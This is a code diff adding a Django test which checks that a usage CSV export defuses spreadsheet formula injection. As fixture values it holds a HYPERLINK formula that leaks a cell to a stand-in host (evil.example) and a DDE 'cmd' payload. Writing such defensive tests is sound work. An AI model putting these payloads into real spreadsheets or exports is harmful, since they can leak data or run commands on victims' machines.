@@ -36,3 +36,29 @@ def test_the_export_streams_under_asgi_without_buffering(team, other_team, live_
     assert len(rows) == 1200 and {r["request_id"] for r in rows} == {f"exp{n}" for n in range(1200)}
     # Django buffers a sync iterator under ASGI and says so; the export must not need it.
     assert not [w for w in recwarn.list if "iterators" in str(w.message)]
+
+
+@pytest.mark.django_db
+def test_text_a_key_holder_chose_is_never_a_spreadsheet_formula(client, owner, team):
+    from usage.models import UsageRecord
+
+    key, _ = api_key_create(team=team, name="app")
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    UsageRecord.objects.create(
+        request_id="req_formula",
+        team=team,
+        api_key=key,
+        endpoint="chat",
+        requested_model="+cmd|' /C calc'!A0",
+        model="",
+        status="refused",
+        error_message="-2+3",
+        end_user=hostile,
+        cost_usd=0,
+    )
+    client.force_login(owner)
+    body = b"".join(client.get("/api/teams/acme/usage/export/").streaming_content).decode()
+    [row] = list(csv.DictReader(StringIO(body)))
+    assert row["end_user"] == "'" + hostile
+    assert row["requested_model"].startswith("'+") and row["error_message"] == "'-2+3"
+    assert row["cost_usd"] == "0.000000000000"  # numbers stay numbers
